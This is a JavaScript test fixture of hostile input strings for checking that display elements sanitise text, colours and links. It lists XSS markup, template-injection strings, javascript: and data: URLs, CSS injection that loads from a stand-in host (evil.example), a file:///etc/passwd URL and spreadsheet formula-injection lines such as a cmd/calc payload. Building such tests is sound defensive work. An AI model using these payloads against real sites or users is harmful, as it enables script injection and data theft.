/**
 * Strings a hostile server or data file may put where the elements show text, colours and links. Each tries to
 * run `window.__pwned = 1`, load something from another origin, or break out of its context.
 */
const RUN = 'window.__pwned=1';

const markup = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<svg onload="${RUN}">`,
  `"><script>${RUN}</script>`,
  `'><img src=x onerror=${RUN}>`,
  `<iframe srcdoc="<script>parent.__pwned=1</script>">`,
  `<a href="javascript:${RUN}">x</a>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${RUN}'/></svg>#x"/></svg>`,
  `<style>@import url(//evil.example/x.css)</style>`,
  `</style><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `<!--<script>${RUN}</script>-->`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<object data="javascript:${RUN}">`,
  `<embed src="javascript:${RUN}">`,
  `<details open ontoggle="${RUN}">`,
  `<body onload="${RUN}">`,
  `<input autofocus onfocus="${RUN}">`,
  `<marquee onstart="${RUN}">`,
  `<video><source onerror="${RUN}">`,
  `<base href="//evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<link rel="stylesheet" href="//evil.example/x.css">`,
  `\u0000<script>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
];

const templates = [
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `<%= ${RUN} %>`,
  `#{${RUN}}`,
  `{{7*7}}`,
  `$\{alert(1)}`,
  `<!--?lit$123$-->`,
  `lit$123$`,
];

export const HOSTILE_URLS = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `&#106;avascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `\u0001javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+`,
  `DATA:text/html,<script>${RUN}</script>`,
  `vbscript:msgbox(1)`,
  `file:///etc/passwd`,
  `blob:https://evil.example/x`,
  `//evil.example/x`,
  `/relative/path`,
  `x`,
  ``,
];

export const HOSTILE_COLORS = [
  'red;background:url(//evil.example/x)',
  'url(//evil.example/x)',
  'expression(alert(1))',
  'var(--x, url(//evil.example/x))',
  'rgb(0,0,0);x:url(//evil.example/x)',
  '#fff} :host{background:url(//evil.example/x)',
  'red</style><script>window.__pwned=1</script>',
  'inherit',
  'currentcolor',
  'var(--oc-blue-7);background:url(//evil.example/x)',
  'hsl(0 0% 0% / 1) url(//evil.example/x)',
  '#12345g',
  'rgb(1,2,3,4,5)',
  'image-set(url(//evil.example/x) 1x)',
  'attr(data-x)',
  'red\\3b background:url(//evil.example/x)',
];

/** Text payloads: markup, template-looking strings, and the URLs and colours as text too. */
export const HOSTILE_TEXT = [
  ...markup,
  ...templates,
  ...markup.map((p) => `Label ${p} end`),
  ...HOSTILE_URLS.filter(Boolean),
  ...HOSTILE_COLORS,
  '=HYPERLINK("http://evil.example","x")',
  '+cmd|\' /C calc\'!A0',
  '-2+3',
  '@SUM(A1)',
  '\u202Egnp.exe',
  'A'.repeat(5000),
];
